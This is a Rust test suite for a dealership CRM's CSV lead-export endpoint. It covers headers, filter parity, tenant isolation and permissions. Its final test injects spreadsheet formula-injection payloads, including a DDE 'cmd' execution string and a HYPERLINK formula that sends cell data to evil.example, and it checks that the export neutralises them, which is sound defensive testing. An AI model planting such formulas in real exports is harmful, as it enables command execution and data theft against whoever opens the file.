//! `GET /api/v1/leads/export`.
mod round_trip;
pub mod streaming;

use std::collections::BTreeMap;

use csv::ReaderBuilder;
use dev::people::TESLA_OSLO;

use crate::support::{Event, Reply, World, event, kari, lead, nina, ola, per};

/// A file's rows, each by its columns, after what every file obeys.
fn rows(reply: &Reply) -> Vec<BTreeMap<String, String>> {
    let text = std::str::from_utf8(&reply.body).unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    assert!(text.ends_with("\r\n"));
    let mut reader = ReaderBuilder::new().from_reader(text.as_bytes());
    reader.deserialize().map(Result::unwrap).collect()
}

async fn export(world: &World, event: Event) -> Vec<BTreeMap<String, String>> {
    rows(&world.send(event).await.expect(200))
}

#[tokio::test]
async fn a_file_is_text_that_excel_reads_with_a_name_to_save_it_under() {
    let world = World::seeded().await;
    let reply = world.send(event("export-leads").by(&kari())).await.expect(200);
    assert_eq!(reply.header("content-type"), "text/csv; charset=utf-8; header=present");
    assert_eq!(reply.header("content-disposition"), "attachment; filename=\"leads.csv\"");
    let times = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z";
    let text = String::from_utf8(reply.body).unwrap().replace("\r\n", "␍␊\n").replace('\u{feff}', "[BOM]");
    insta::with_settings!({ filters => vec![(times, "[time]")] }, { insta::assert_snapshot!(text) });
}

#[tokio::test]
async fn a_file_without_leads_has_its_header() {
    let world = World::seeded().await;
    let reply = world.send(event("export-leads").by(&kari()).query("q=ingen")).await.expect(200);
    assert_eq!(reply.body.iter().filter(|byte| **byte == b'\n').count(), 1);
    assert!(rows(&reply).is_empty());
}

#[tokio::test]
async fn it_has_the_leads_that_the_list_shows_for_every_filter() {
    let world = World::seeded().await;
    for query in [
        "",
        "status=new",
        "status=lost",
        "source=website",
        "source=manual",
        "assigned_to=me",
        "assigned_to=none",
        "assigned_to=019a0000-0000-7000-8000-000000000014",
        "status=lost&source=sms&assigned_to=none",
        "created_after=2100-01-01T00:00:00Z",
        "created_before=2100-01-01T00:00:00Z",
        "updated_since=2100-01-01T00:00:00Z",
        "q=%C3%B8de",
        "q=400%2000%20103",
    ] {
        let listed = world.send(event("list-leads").by(&ola()).query(query)).await.expect(200);
        let exported = export(&world, event("export-leads").by(&ola()).query(query)).await;
        let ids: Vec<&str> = exported.iter().map(|row| row["id"].as_str()).collect();
        assert_eq!(ids, listed.ids(), "?{query}");
        for (row, item) in exported.iter().zip(listed.json["items"].as_array().unwrap()) {
            for (name, value) in row.iter().filter(|(name, _)| item.get(name).is_some()) {
                let told = item[name].as_str().unwrap_or_default();
                let same = if name.ends_with("_at") {
                    told.parse::<jiff::Timestamp>().unwrap() == value.parse().unwrap()
                } else {
                    value.trim_start_matches('\'') == told
                };
                assert!(same, "{name}: {value} is not {told}");
            }
        }
    }
}

#[tokio::test]
async fn what_is_no_filter_of_the_list_is_none_of_a_file() {
    let world = World::seeded().await;
    let reply =
        world.send(event("export-leads").by(&kari()).query("limit=5&status=sold&sort=id")).await.expect(400);
    assert_eq!(reply.fields(), ["limit", "sort", "status"]);
}

#[tokio::test]
async fn a_file_never_has_another_dealerships_leads() {
    let world = World::seeded().await;
    for (token, numbers) in [(kari(), 1..=10), (per(), 11..=20)] {
        for query in ["", "assigned_to=none", "q=a", "status=new"] {
            let rows = export(&world, event("export-leads").by(&token).query(query)).await;
            let own: Vec<String> = numbers.clone().map(|n| lead(n).to_string()).collect();
            assert!(rows.iter().all(|row| own.contains(&row["id"])), "?{query}");
            assert!(!query.is_empty() || rows.len() == own.len());
        }
    }
}

#[tokio::test]
async fn who_exports_leads_gets_them_and_a_sales_rep_does_not() {
    let world = World::seeded().await;
    world.send(event("export-leads").by(&ola())).await.expect(200);
    for query in ["", "assigned_to=me"] {
        let reply = world.send(event("export-leads").by(&nina()).query(query)).await.expect(403);
        assert_eq!((reply.code(), reply.header("content-type")), ("forbidden", "application/problem+json"));
    }
}

#[tokio::test]
async fn a_formula_is_text() {
    let world = World::seeded().await;
    let owner = world.owner().await;
    let insert =
        "insert into leads (dealership_id, source, first_name, message) values ($1, 'website', $2, $3)";
    let corpus = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Klikk\")",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'=1+1",
    ];
    for formula in corpus {
        let message = format!("Hei;{formula}\n{formula}\t{formula}");
        owner.execute(insert, &[&TESLA_OSLO.id, &formula, &message]).await.unwrap();
    }
    let reply =
        world.send(event("export-leads").by(&kari()).query("source=website&status=new")).await.expect(200);
    let dangerous = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'];
    for row in rows(&reply) {
        for cell in row.values() {
            // Whichever list separator the spreadsheet believes in.
            assert!(cell.split([';', '\t', '\n']).all(|part| !part.starts_with(dangerous)), "{cell:?}");
        }
    }
    assert_eq!(rows(&reply).len(), corpus.len() + 1);
}
